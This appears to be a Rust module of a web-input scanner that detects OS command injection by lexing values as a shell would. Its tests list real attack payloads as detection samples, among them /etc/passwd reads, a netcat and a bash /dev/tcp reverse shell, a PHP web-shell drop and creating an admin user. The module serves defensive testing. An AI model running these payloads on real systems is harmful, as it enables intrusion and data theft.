//! OS command injection: tokenise the value as a shell (and cmd.exe) would, in each context an
//! injection can start in (a command line, or inside a quoted argument the input closes),
//! then judge every command position: after `;`, `|`, `&`, `&&`, `||`, a newline, inside
//! `$(..)` or backticks, or at the start. A command name alone is not enough where it is also
//! a word ("cat food", "echo in the mirror"): it needs a separator before it, shell-like
//! arguments (options, paths, URLs, redirections, expansions) or both.
//! Also: `$IFS` word splitting, glob paths (`/???/c?t`), Shellshock, `/dev/tcp` shells.

mod code;
mod commands;
mod lexer;

use super::ascii::{any_byte, find, lower_bytes_into, lower_into, starts_with_ci};
use super::{AttackClass, Finding};
use commands::{
    Telling, base_command, base_name, command, glob_matches, net_subcommand, takes_command,
    takes_number,
};
use lexer::{Lexed, Sep, Start, Token, Word, lex};

fn push(findings: &mut Vec<Finding>, rule: &'static str, score: u16, start: usize, end: usize) {
    findings.push(Finding {
        class: AttackClass::Rce,
        rule,
        score,
        span: start..end.max(start),
    });
}

/// Judge one value for OS command injection.
pub(crate) fn detect(value: &str, findings: &mut Vec<Finding>) {
    let b = value.as_bytes();
    // A value of ASCII letters, digits and `-` only (request ids, codes, dates) is judged
    // without the lexer. It holds no `() {`, no code marker (each has a byte outside that set),
    // no `(` for a code call and no quote; the lexer makes it one word (every such byte is a
    // plain character), at the start of the command line, without arguments, without `$IFS`,
    // not starting with `/` (no glob path) and without a directory (not `pathed`, no
    // executable-directory prefix). `command_score` then counts it, with 5, exactly when the
    // lower-cased word names a command that is telling alone ([`Telling::Unique`]).
    if !b.is_empty()
        && !any_byte(b, |c| {
            !((c.is_ascii_lowercase() | c.is_ascii_uppercase()) | c.is_ascii_digit() | (c == b'-'))
        })
    {
        let mut buf = [0u8; 32];
        let unique = lower_into(b, &mut buf).and_then(command) == Some(Telling::Unique);
        if unique {
            push(findings, "rce.command", 5, 0, b.len());
        }
        return;
    }
    judge_value(value, true, findings);
}

/// [`detect`] without its shortcuts (plain words, no command words): what the tests and the
/// fuzz target compare the shortcuts with.
#[cfg(any(test, fuzzing))]
pub(super) fn detect_in(value: &str, findings: &mut Vec<Finding>) {
    judge_value(value, false, findings);
}

/// The byte-pattern rules, then the lexer and the judge; with `shortcuts`, the lexer is
/// skipped for a value [`without_command_words`].
fn judge_value(value: &str, shortcuts: bool, findings: &mut Vec<Finding>) {
    let b = value.as_bytes();
    if let Some(at) = find(b, b"() {") {
        let body = b.get(at + 4..(at + 12).min(b.len())).unwrap_or(b"");
        if body.contains(&b':') {
            return push(findings, "rce.shellshock", 5, at, at + 4);
        }
    }
    let markers = code::MARKERS.find_all(b);
    if let Some((rule, s, e)) = code::detect(b, &markers) {
        return push(findings, rule, 5, s, e);
    }
    if let Some((_, _, at)) = markers
        .iter(&code::MARKERS)
        .find(|(index, ..)| *index >= code::SOCKETS)
    {
        return push(findings, "rce.reverse-shell", 5, at, at + 9);
    }
    if shortcuts && without_command_words(b) {
        return;
    }
    let best = Lexed::with_scratch(|lexed| {
        let mut best: Option<(u16, &'static str, usize, usize)> = None;
        for start in [Start::Bare, Start::Quoted(b'\''), Start::Quoted(b'"')] {
            if let Start::Quoted(q) = start
                && memchr::memchr(q, b).is_none()
            {
                continue;
            }
            if !lex(value, start, lexed) {
                continue;
            }
            if let Some(found) = judge(lexed, start)
                && best.is_none_or(|b| found.0 > b.0)
            {
                best = Some(found);
                if found.0 >= 5 {
                    break;
                }
            }
        }
        best
    });
    if let Some((score, rule, s, e)) = best {
        push(findings, rule, score, s, e);
    }
}

/// Whether the judge can find nothing in `b` (User-Agents, paths, codes): at most 256 bytes
/// of ASCII letters, digits, spaces and `( ) ; , . / : - _ + = @ % ~ !`, and no word between
/// those separators that names a command or starts with a directory of executables.
///
/// Why: each other byte is shell syntax (quotes, `\`, `^`, `$`, backticks, `&`, `|`, `<`,
/// `>`, `#`, `{`, `}`, line breaks, other white space) or may lower-case to ASCII (Unicode
/// letters such as the Kelvin sign). With these bytes only, the lexer (in the bare context:
/// no quote, so no quoted one) ends words at a space and at `;`, `(`, `)`, and takes every
/// other byte as a plain character, lower-cased: each word's text is one run of the value
/// between separators, lower-cased, whole (no run is longer than the 256 bytes a word keeps).
/// The judge finds `$IFS` (needs `$`), glob paths (need `?`, `*` or `[`) and commands:
/// `command_score` counts a word only when `command` knows it (after the `@`s it trims) or
/// when it starts with a directory of executables. Every word is checked here, in any
/// position, so none can be counted.
fn without_command_words(b: &[u8]) -> bool {
    if b.len() > 256 || super::ascii::any_byte(b, |c| !COMMAND_FREE_BYTE[usize::from(c)]) {
        return false;
    }
    b.split(|c| matches!(c, b' ' | b';' | b'(' | b')'))
        .filter(|w| !w.is_empty())
        .all(|word| {
            let mut buf = [0u8; 32];
            let at = word.iter().position(|&c| c != b'@').unwrap_or(word.len());
            let name = word.get(at..).unwrap_or_default();
            // `command` reads the base name (after the last `/`), without `.exe`: every name
            // it knows is shorter than 32 bytes with its `.exe`.
            let base_at = name
                .iter()
                .rposition(|&c| c == b'/')
                .map_or(0, |sep| sep + 1);
            let base = name.get(base_at..).unwrap_or_default();
            // `base_command` knows no name that starts with anything but a letter (its first
            // test), and lower-casing keeps what is not a letter: such a base is not looked up.
            let known = base.first().is_some_and(u8::is_ascii_alphabetic)
                && lower_bytes_into(base, &mut buf).is_some_and(|b| base_command(b).is_some());
            // Every directory of executables starts with `/`.
            let bin = name.first() == Some(&b'/')
                && EXECUTABLE_DIRS
                    .iter()
                    .any(|dir| starts_with_ci(name, 0, dir.as_bytes()));
            !known && !bin
        })
}

/// The directories of executables a word alone may start with (`/usr/bin/id`).
const EXECUTABLE_DIRS: [&str; 5] = [
    "/bin/",
    "/usr/bin/",
    "/sbin/",
    "/usr/sbin/",
    "/usr/local/bin/",
];

/// The bytes [`without_command_words`] accepts.
static COMMAND_FREE_BYTE: [bool; 256] = {
    let mut table = [false; 256];
    let mut b = 0;
    while b < 256 {
        let c = b as u8;
        table[b] = c.is_ascii_alphanumeric()
            || matches!(
                c,
                b' ' | b'('
                    | b')'
                    | b';'
                    | b','
                    | b'.'
                    | b'/'
                    | b':'
                    | b'-'
                    | b'_'
                    | b'+'
                    | b'='
                    | b'@'
                    | b'%'
                    | b'~'
                    | b'!'
            );
        b += 1;
    }
    table
};

/// Where a command sits.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Position {
    /// The first word of the value.
    Start,
    /// After a list operator or a pipe.
    AfterSeparator,
    /// First word of a command substitution.
    Substitution,
    /// First word inside parentheses or braces: a subshell, or prose in parentheses.
    Group,
}

fn judge(lexed: &Lexed, start: Start) -> Option<(u16, &'static str, usize, usize)> {
    let tokens = lexed.tokens.as_slice();
    let mut best = None;
    let mut position = match start {
        Start::Bare => Some(Position::Start),
        // After the closing quote, the value continues the same word or argument list.
        Start::Quoted(_) => None,
    };
    let mut i = 0;
    while let Some(tok) = tokens.get(i) {
        match tok {
            Token::Sep(Sep::List | Sep::Pipe, _) => position = Some(Position::AfterSeparator),
            Token::Sep(Sep::SubstOpen, _) => position = Some(Position::Substitution),
            Token::Sep(Sep::Group, _) => {
                if position.is_none() {
                    position = Some(Position::Group);
                }
            }
            Token::Sep(Sep::Close, _) => position = None,
            Token::Redirect(_) => position = None,
            Token::Word(w) => {
                let text = lexed.word_text(w);
                if w.ifs {
                    raise(&mut best, (5, "rce.ifs", w.start, w.end));
                }
                if let Some(glob) = glob_path(w, text) {
                    raise(&mut best, glob);
                }
                if let Some(pos) = position.take() {
                    let args = arguments(tokens, i + 1);
                    if let Some(score) = command_score(lexed, w, text, pos, args) {
                        let end = args.last().map_or(w.end, argument_end);
                        raise(&mut best, (score, "rce.command", w.start, end));
                    }
                }
            }
        }
        if best.is_some_and(|b: (u16, _, _, _)| b.0 >= 5) {
            break;
        }
        i += 1;
    }
    best
}

fn raise(
    best: &mut Option<(u16, &'static str, usize, usize)>,
    found: (u16, &'static str, usize, usize),
) {
    if best.is_none_or(|b| found.0 > b.0) {
        *best = Some(found);
    }
}

/// The tokens after a command up to the next operator, at most 32: its arguments (words, and
/// redirections, which count as arguments).
fn arguments(tokens: &[Token], from: usize) -> &[Token] {
    let rest = tokens.get(from..).unwrap_or_default();
    let rest = rest.get(..32).unwrap_or(rest);
    let end = rest
        .iter()
        .position(|t| matches!(t, Token::Sep(..)))
        .unwrap_or(rest.len());
    rest.get(..end).unwrap_or_default()
}

/// Where an argument ends in the value.
fn argument_end(arg: &Token) -> usize {
    match arg {
        Token::Word(w) => w.end,
        Token::Redirect(at) | Token::Sep(_, at) => at + 1,
    }
}

/// Whether an argument is shell syntax rather than prose.
fn shell_like(command: &str, lexed: &Lexed, arg: &Token) -> bool {
    let Token::Word(w) = arg else {
        return matches!(arg, Token::Redirect(_));
    };
    let t = lexed.word_text(w);
    let bytes = t.as_bytes();
    // `-la`, `-e`, `--remote`; not `-BABY` (a search term excluded).
    let option = || {
        bytes.first() == Some(&b'-')
            && bytes
                .get(1)
                .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'-')
            && !w.upper
    };
    let windows_switch = || {
        bytes.first() == Some(&b'/')
            && bytes.len() <= 12
            && bytes.get(1).is_some_and(|c| c.is_ascii_alphabetic())
            && !t[1..].contains('/')
    };
    let path = || {
        t.starts_with('/')
            || t.starts_with("./")
            || t.starts_with("../")
            || t.starts_with("~/")
            || t.starts_with("\\\\")
            || t.starts_with('%') && t[1..].contains('%')
            || bytes.get(1) == Some(&b':') && matches!(bytes.get(2), Some(b'\\' | b'/'))
    };
    let url = || find(bytes, b"://").is_some();
    let number = || takes_number(command) && bytes.first().is_some_and(u8::is_ascii_digit);
    let names_command = || takes_command(command) && commands::command(t).is_some();
    let net = || command == "net" && net_subcommand(t);
    let ip = || {
        bytes.iter().filter(|c| **c == b'.').count() == 3
            && bytes.iter().all(|c| c.is_ascii_digit() || *c == b'.')
    };
    w.shellish
        || option()
        || windows_switch()
        || path()
        || url()
        || number()
        || names_command()
        || net()
        || ip()
}

fn command_score(
    lexed: &Lexed,
    w: &Word,
    text: &str,
    pos: Position,
    args: &[Token],
) -> Option<u16> {
    let name = text.trim_start_matches('@');
    let telling = match command(name) {
        Some(t) => t,
        None => {
            // An absolute path to an executable: `/usr/bin/id`, `/bin/sh`.
            return EXECUTABLE_DIRS
                .iter()
                .any(|p| name.starts_with(p) && name.len() > p.len())
                .then_some(5);
        }
    };
    let base = base_name(name);
    let base = base.strip_suffix(".exe").unwrap_or(base);
    // Written with the directory of executables (`/usr/bin/id`, `./x`,
    // `C:\Windows\System32\cmd.exe`), not any path that ends in a command-like word
    // (`http://example.org/devices/id`).
    let dir = name.get(..name.len() - base.len()).unwrap_or("");
    let pathed = dir == "./"
        || !name.contains("://")
            && [
                "/bin/",
                "/sbin/",
                "\\system32\\",
                "\\syswow64\\",
                "/system32/",
            ]
            .iter()
            .any(|d| dir.ends_with(d));
    // Unix commands are lower case; an upper-case common word is prose ("(WHO)", "SET").
    if w.upper && telling == Telling::Common && !pathed {
        return None;
    }
    let shellish_args = args.iter().any(|a| shell_like(base, lexed, a));
    let no_args = args.is_empty();
    let score = match pos {
        Position::Substitution => 5,
        Position::AfterSeparator => match telling {
            Telling::Unique | Telling::Tool => 5,
            Telling::Common if no_args || shellish_args || pathed => 5,
            Telling::Common => return None,
        },
        Position::Group => match telling {
            Telling::Unique | Telling::Tool if no_args || shellish_args => 5,
            Telling::Common if shellish_args || pathed => 5,
            _ => return None,
        },
        // At the start of the value a command word is often prose ("curl and divergence"):
        // it counts with shell arguments, as a path, or alone when it is a tool name only.
        Position::Start if shellish_args || pathed || telling == Telling::Unique && no_args => 5,
        Position::Start => return None,
    };
    Some(score)
}

/// `/???/c?t /e??/p*d`: a glob that the shell expands to a binary or a sensitive file.
fn glob_path(w: &Word, text: &str) -> Option<(u16, &'static str, usize, usize)> {
    let t = text.as_bytes();
    if t.first() != Some(&b'/') || !t.iter().any(|c| matches!(c, b'?' | b'*' | b'[')) {
        return None;
    }
    commands::GLOB_TARGETS
        .iter()
        .any(|target| glob_matches(t, target.as_bytes()))
        .then_some((5, "rce.glob-path", w.start, w.end))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(value: &str) -> u16 {
        let mut f = Vec::new();
        detect(value, &mut f);
        f.iter().map(|f| f.score).max().unwrap_or(0)
    }

    #[test]
    fn command_injection_scores_five() {
        for a in [
            "; cat /et'c/pa'ss'wd",
            "|id|",
            "a;id",
            "; id",
            "&& dir",
            "& dir C:\\Users",
            "| net view",
            "& type %SYSTEMROOT%\\repair\\SYSTEM",
            "| set /a 3482*7301",
            "`curl -L http://example.org`",
            "$(`cat /etc/passwd`)",
            ";getent$IFS$9hosts$IFS$9somehost.example;",
            "cat${IFS}/etc/passwd",
            "c''at /etc/passwd",
            "/???/c?t /???/p??s??",
            "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'",
            "cmd=127.0.0.1 && ls /etc",
            "\n/usr/bin/id\n",
            "\" && whoami",
            "whoami",
            "nc -lvvp 4444 -e /bin/sh",
            "cat /etc/hosts",
            "sleep 5",
            "ping -n 30 127.0.0.1",
            "net user hacker Password1 /ADD",
            "echo \"<?php system($_GET['cmd']); ?>\" > cmd.php",
            "ax--exec=`id`--remote=origin",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "w^h^o^a^m^i",
        ] {
            assert_eq!(score(a), 5, "missed: {a}");
        }
    }

    /// The shortcut for plain words gives what the lexer and the judge give: on every corpus
    /// string, on each with only its letters, digits and `-` kept, and on command names.
    #[test]
    fn plain_words_are_judged_as_by_the_lexer() {
        use crate::detect::differential::{corpus_strings, without};
        let mut values = corpus_strings();
        let plain: Vec<String> = values
            .iter()
            .map(|t| without(t, |c| !(c.is_ascii_alphanumeric() || c == b'-')))
            .collect();
        values.extend(plain);
        for name in [
            "whoami",
            "WhoAmI",
            "ipconfig",
            "systeminfo",
            "uname",
            "hostnamectl",
            "cat",
            "id",
            "ls",
            "sleep",
            "nc",
            "ping",
            "whoami-",
            "-whoami",
            "who-ami",
            "whoami1",
            "w",
        ] {
            values.push(name.to_owned());
        }
        values.push("a".repeat(300));
        for t in &values {
            let (mut fast, mut full) = (Vec::new(), Vec::new());
            detect(t, &mut fast);
            detect_in(t, &mut full);
            assert_eq!(fast, full, "{t}");
        }
    }

    /// The shortcut for values without command words gives what the lexer and the judge
    /// give: on every corpus string, and on each with only the bytes it accepts kept (the
    /// inputs it answers alone), and on command names written every way it must catch.
    #[test]
    fn values_without_command_words_are_judged_as_by_the_lexer() {
        use crate::detect::differential::{assert_same_findings, corpus_strings, without};
        let mut values = corpus_strings();
        let kept: Vec<String> = values
            .iter()
            .map(|t| without(t, |c| !COMMAND_FREE_BYTE[usize::from(c)]))
            .collect();
        values.extend(kept);
        for v in [
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
            "a;id",
            "x (whoami)",
            "x;WHOAMI",
            "@whoami",
            "a; @@id",
            "/usr/bin/id",
            "/USR/BIN/ID",
            "/bin/x",
            "/bin/",
            "cat /etc/passwd",
            "x; /usr/local/bin/foo",
            "ping.exe -n 3 127.0.0.1",
            "C:/Windows/System32/cmd.exe",
            "a/b/whoami",
            "whoami.exe",
            "sleep(5)",
            "x);sleep 5;(",
            "  ls",
            "a\tls",
        ] {
            values.push(v.to_owned());
        }
        values.push("a ".repeat(129));
        values.push(format!("{}; id", "a".repeat(300)));
        assert_same_findings(
            &values,
            detect,
            detect_in,
            |t| without_command_words(t.as_bytes()),
            1000,
        );
    }

    #[test]
    fn prose_with_command_words_passes() {
        for b in [
            "bash away in the gym",
            "curl and divergence",
            "echo in the mirror",
            "exec noun",
            "ls 300 lexus",
            "nc 8000 controller",
            "zsh is the best!",
            "time he came.",
            "Salt & pepper",
            "Tom & Jerry; cat food",
            "R&D; type 2 diabetes",
            "The parameter 5 is&|.",
            "dir",
            "Apt is gated; call when you get here, and we'll come down to get it.",
            "BLUE BROWN -BABY -TODDLER",
            "sleep apnoea; snoring",
            "pain 7/10; ice pack",
        ] {
            assert_eq!(score(b), 0, "false positive: {b}");
        }
    }
}
